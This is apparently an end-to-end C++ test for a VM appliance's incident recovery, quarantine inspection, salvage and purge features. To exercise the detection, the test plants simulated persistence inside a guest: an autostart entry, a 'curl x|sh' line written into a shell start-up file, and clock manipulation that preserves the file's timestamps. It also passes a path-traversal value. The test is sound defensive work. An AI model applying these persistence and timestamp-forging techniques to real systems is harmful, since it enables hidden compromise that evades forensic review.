// Recover after an incident on the real thing (terminal appliance, keep-changes mode): files are
// planted in the guest, the appliance is recovered (switched off, system changes quarantined,
// clean system), the next boot is clean, the inspector VM reads the quarantined disk (never
// mounted on the host) and reports exactly the planted changes with the persistence spots
// first (among them a shell start-up file replaced keeping its size, mtime and ctime: the
// inspector hashes every file in a persistence spot), one file is salvaged into the personal
// store, and the quarantine is purged.
// Prints the time to recover and to inspect.
#include "appliancecatalog.h"
#include "appliancevm.h"
#include "bootandconnect.h"
#include "vmstatewait.h"
#include "guestdriver.h"
#include "libvirtconnection.h"
#include "quarantineinspection.h"
#include "quarantinestore.h"
#include "spiceconnection.h"
#include "tesserapaths.h"

#include <QCryptographicHash>
#include <QDir>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <sys/xattr.h>
#include <unistd.h>

namespace {

constexpr int BootTimeoutMs = 300 * 1000;     // TCG on a loaded 2-core machine
constexpr int StateTimeoutMs = 120 * 1000;
constexpr int InspectTimeoutMs = 15 * 60 * 1000;

QString testUri()
{
    const QString configured = qEnvironmentVariable("TESSERA_E2E_URI");
    if (!configured.isEmpty())
        return configured;
    return geteuid() == 0 ? QStringLiteral("qemu:///embed?root=") + TesseraPaths::cacheDir() + QStringLiteral("/e2e-incident-libvirt")
                          : QStringLiteral("qemu:///session");
}

// What every boot of the appliance writes by itself (logs, service state, caches): listed in
// the report like everything else, but not planted by this test.
bool writtenByEveryBoot(const QString &path)
{
    static const QStringList prefixes{QStringLiteral("/var/log"), QStringLiteral("/var/lib"), QStringLiteral("/var/cache"),
                                      QStringLiteral("/var/tmp"), QStringLiteral("/tmp")};
    return std::any_of(prefixes.cbegin(), prefixes.cend(), [&path](const QString &prefix) {
        return path == prefix || path.startsWith(prefix + QLatin1Char('/'));
    });
}

QByteArray sha256Of(const QString &path)
{
    QFile file(path);
    QCryptographicHash hash(QCryptographicHash::Sha256);
    return file.open(QIODevice::ReadOnly) && hash.addData(&file) ? hash.result().toHex() : QByteArray();
}

} // namespace

class TestIncidentEndToEnd : public QObject
{
    Q_OBJECT
    QTemporaryDir m_data;
    QTemporaryDir m_store;
    QTemporaryDir m_runtime; // its own SPICE sockets: other e2e tests may run the same appliance
    LibvirtConnection *m_connection = nullptr;
    ApplianceImage m_image;


    bool bootAndConnect(ApplianceVm &vm, SpiceConnection &spice, GuestDriver &driver)
    {
        return ::bootAndConnect(vm, spice, driver, StateTimeoutMs, BootTimeoutMs);
    }

    static int status(GuestDriver &driver, const QString &script)
    {
        const GuestDriver::ExecResult result = driver.exec({QStringLiteral("/bin/sh"), QStringLiteral("-c"), script});
        if (!result.finished)
            qWarning() << driver.lastFailure();
        return result.finished ? result.status : -100;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_data.isValid() && m_store.isValid() && m_runtime.isValid());
        m_image = ApplianceCatalog::find(TesseraPaths::applianceImagesDir(), QStringLiteral("terminal"));
        QVERIFY2(m_image.isComplete(), "the terminal appliance is not built: run scripts/setup");
        qputenv("TESSERA_DATA_DIR", m_data.path().toUtf8());
        qputenv("TESSERA_STORE_DIR", m_store.path().toUtf8());
        qputenv("XDG_RUNTIME_DIR", m_runtime.path().toUtf8());
        m_connection = new LibvirtConnection(testUri(), this);
        QSignalSpy opened(m_connection, &LibvirtConnection::opened);
        QSignalSpy failed(m_connection, &LibvirtConnection::openFailed);
        m_connection->open();
        QTRY_VERIFY_WITH_TIMEOUT(!opened.isEmpty() || !failed.isEmpty(), 180000);
        QVERIFY2(failed.isEmpty(), qPrintable(failed.value(0).value(0).value<VmError>().toString()));
    }

    void plantRecoverInspectSalvagePurge()
    {
        const Accelerator::Kind accelerator = Accelerator::choose(qEnvironmentVariable("TESSERA_ACCEL"));
        ApplianceVm vm(m_connection, m_image, accelerator);
        vm.refresh();
        QTRY_VERIFY_WITH_TIMEOUT(vm.state() != ApplianceVm::Unknown, 10000);
        if (vm.state() != ApplianceVm::Off) {
            vm.powerOff();
            QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
        }
        QSignalSpy modeChanged(&vm, &ApplianceVm::modeChanged);
        vm.setMode(ApplianceVm::KeepChanges);
        QVERIFY(modeChanged.wait(StateTimeoutMs));

        // 1. A session that plants persistence and other changes.
        {
            SpiceConnection spice;
            GuestDriver driver(&spice);
            QVERIFY(bootAndConnect(vm, spice, driver));
            QCOMPARE(status(driver, QStringLiteral("test -f /root/.bashrc && test -f /root/.profile && test -f /etc/issue.net && test ! -e /etc/xdg/autostart")), 0);
            QCOMPARE(status(driver, QStringLiteral(
                "mkdir -p /etc/xdg/autostart && printf '[Desktop Entry]\\nType=Application\\nExec=/bin/true\\n' >/etc/xdg/autostart/evil.desktop"
                " && echo 'echo pwned' >>/root/.bashrc && echo 'my notes' >/root/notes.txt && rm /etc/issue.net && sync")), 0);
            // As root, replace the start of /root/.profile keeping its size, permissions, owner,
            // mtime (touch -r) and ctime (the clock set back to it for the touch, then forward
            // again): only a hash tells the change.
            QCOMPARE(status(driver, QStringLiteral(
                "f=/root/.profile; cp -p $f /tmp/ref && size=$(stat -c %s $f) && ct=$(stat -c %Z $f) && now=$(date +%s)"
                " && up=$(cut -d. -f1 /proc/uptime)"
                " && printf 'curl x|sh #' | dd of=$f bs=1 conv=notrunc status=none"
                " && for i in 1 2 3 4 5; do date -s @$ct >/dev/null; touch -r /tmp/ref $f; [ $(stat -c %Z $f) = $ct ] && break; done;"
                " date -s @$((now + $(cut -d. -f1 /proc/uptime) - up)) >/dev/null;"
                " sync; ! cmp -s $f /tmp/ref && [ $(stat -c %s $f) = $size ] && [ $(stat -c %Z $f) = $ct ]"
                " && [ $(stat -c %Y $f) = $(stat -c %Y /tmp/ref) ] && [ $(stat -c %a.%u.%g $f) = $(stat -c %a.%u.%g /tmp/ref) ]")), 0);
            spice.disconnectFromGuest();
        }

        // 2. Recover: switched off at once, quarantined, clean.
        QSignalSpy recovered(&vm, &ApplianceVm::recovered);
        QSignalSpy failed(&vm, &ApplianceVm::failed);
        vm.recover(QStringLiteral("e2e: planted persistence"));
        QVERIFY2(recovered.wait(StateTimeoutMs), failed.isEmpty() ? "no answer" : qPrintable(failed.first().first().value<VmError>().toString()));
        const QString id = recovered.first().at(0).toString();
        qInfo("recover (power off + quarantine + clean system): %lld ms", recovered.first().at(1).toLongLong());
        QCOMPARE(vm.state(), ApplianceVm::Off);
        const QuarantineStore store(vm.instanceDir());
        QuarantineRecord record;
        QVERIFY(store.read(id, &record));
        QCOMPARE(record.reason, QStringLiteral("e2e: planted persistence"));
        QCOMPARE(record.appliance, QStringLiteral("terminal"));
        QCOMPARE(record.backingImage, m_image.baseDisk);
        QVERIFY(QFileInfo::exists(store.deltaPath(id)));
        QVERIFY(record.deltaBytes > 0);

        const QByteArray deltaHash = sha256Of(store.deltaPath(id));
        QVERIFY(!deltaHash.isEmpty());

        // 3. The next boot is clean.
        {
            SpiceConnection spice;
            GuestDriver driver(&spice);
            QVERIFY(bootAndConnect(vm, spice, driver));
            QCOMPARE(status(driver, QStringLiteral("test -e /etc/xdg/autostart/evil.desktop")), 1);
            QCOMPARE(status(driver, QStringLiteral("grep -q pwned /root/.bashrc")), 1);
            QCOMPARE(status(driver, QStringLiteral("test -e /root/notes.txt")), 1);
            QCOMPARE(status(driver, QStringLiteral("test -f /etc/issue.net")), 0);
            spice.disconnectFromGuest();
            vm.powerOff();
            QVERIFY(waitForVmState(vm, ApplianceVm::Off, StateTimeoutMs));
        }

        // 4. Inspect inside the inspector VM.
        QuarantineInspection inspection(m_connection, m_image, accelerator, QStringLiteral("terminal"), vm.instanceDir(), id);
        QSignalSpy ready(&inspection, &QuarantineInspection::reportReady);
        QSignalSpy inspectionFailed(&inspection, &QuarantineInspection::failed);
        QElapsedTimer inspectTimer;
        inspectTimer.start();
        inspection.inspect();
        QTRY_VERIFY_WITH_TIMEOUT(!ready.isEmpty() || !inspectionFailed.isEmpty(), InspectTimeoutMs);
        QVERIFY2(inspectionFailed.isEmpty(), qPrintable(inspectionFailed.value(0).value(0).toString()));
        qInfo("inspection: %.1f s in all (inspector boot to agent %.1f s, mount + compare %.1f s)", inspectTimer.elapsed() / 1000.0,
              ready.first().at(0).toLongLong() / 1000.0, ready.first().at(1).toLongLong() / 1000.0);
        const DeltaReport &report = inspection.report();
        QVERIFY(report.complete);
        QCOMPARE(report.rejectedLines, 0);
        QStringList planted;
        for (const DeltaEntry &entry : report.entries) {
            const char change = entry.change == DeltaEntry::Change::Added ? 'A' : entry.change == DeltaEntry::Change::Removed ? 'R' : 'M';
            qInfo("  %c %-10s %s", change, qPrintable(entry.persistence), qPrintable(entry.path));
            if (!writtenByEveryBoot(entry.path))
                planted << QStringLiteral("%1 %2 %3").arg(QLatin1Char(change)).arg(entry.isPersistence() ? 1 : 0).arg(entry.path);
        }
        // Exactly the planted changes, persistence spots first (the new folder is one too).
        const QStringList expected{
            QStringLiteral("A 1 /etc/xdg/autostart"), QStringLiteral("A 1 /etc/xdg/autostart/evil.desktop"),
            QStringLiteral("M 1 /root/.bashrc"), QStringLiteral("M 1 /root/.profile"),
            QStringLiteral("R 0 /etc/issue.net"), QStringLiteral("A 0 /root/notes.txt")};
        QCOMPARE(planted, expected);
        QCOMPARE(report.entries.first().persistence, QStringLiteral("autostart"));
        QVERIFY(QFileInfo::exists(store.reportPath(id)));
        QCOMPARE(QuarantineInspection::savedReport(vm.instanceDir(), id).entries.size(), report.entries.size());

        // 5. Salvage a file (and refuse a folder and a path that tries to climb out).
        QSignalSpy salvaged(&inspection, &QuarantineInspection::salvaged);
        inspection.salvage({QStringLiteral("/root/notes.txt"), QStringLiteral("/etc/xdg/autostart"), QStringLiteral("/root/../etc/shadow")});
        QTRY_VERIFY_WITH_TIMEOUT(!salvaged.isEmpty() || !inspectionFailed.isEmpty(), StateTimeoutMs);
        QVERIFY2(inspectionFailed.isEmpty(), qPrintable(inspectionFailed.value(0).value(0).toString()));
        const QString salvagedFile = inspection.salvageFolder() + QStringLiteral("/root/notes.txt");
        QCOMPARE(salvaged.first().at(0).toStringList(), QStringList{salvagedFile});
        QCOMPARE(salvaged.first().at(1).toStringList(), (QStringList{QStringLiteral("/etc/xdg/autostart"), QStringLiteral("/root/../etc/shadow")}));
        QVERIFY(salvagedFile.startsWith(m_store.path() + QStringLiteral("/Salvaged/terminal-") + id));
        QFile notes(salvagedFile);
        QVERIFY(notes.open(QIODevice::ReadOnly));
        QCOMPARE(notes.readAll(), QByteArray("my notes\n"));
        char mark[512] = {};
        const ssize_t markSize = ::getxattr(QFile::encodeName(salvagedFile).constData(), "user.tessera.salvaged", mark, sizeof mark - 1);
        QVERIFY2(markSize > 0, "the salvaged file carries no user.tessera.salvaged attribute");
        QVERIFY(QByteArray(mark).contains("quarantine=" + id.toUtf8()));
        QVERIFY(QFileInfo::exists(inspection.salvageFolder() + QStringLiteral("/README.txt")));
        QVERIFY(!(QFileInfo(salvagedFile).permissions() & (QFile::ExeOwner | QFile::ExeGroup | QFile::ExeOther)));

        QSignalSpy stopped(&inspection, &QuarantineInspection::stopped);
        inspection.shutDown();
        QVERIFY(stopped.wait(StateTimeoutMs));
        // The inspector replayed the delta's journal into its own view, never into the evidence.
        QCOMPARE(sha256Of(store.deltaPath(id)), deltaHash);

        // 6. Purge.
        QVERIFY(!store.purge(id).isError());
        QVERIFY(!QFileInfo::exists(store.folder(id)));
        QVERIFY(store.list().isEmpty());
        QVERIFY(QFileInfo::exists(salvagedFile)); // what was salvaged stays
    }
};

QTEST_MAIN(TestIncidentEndToEnd)
#include "tst_incident_e2e.moc"
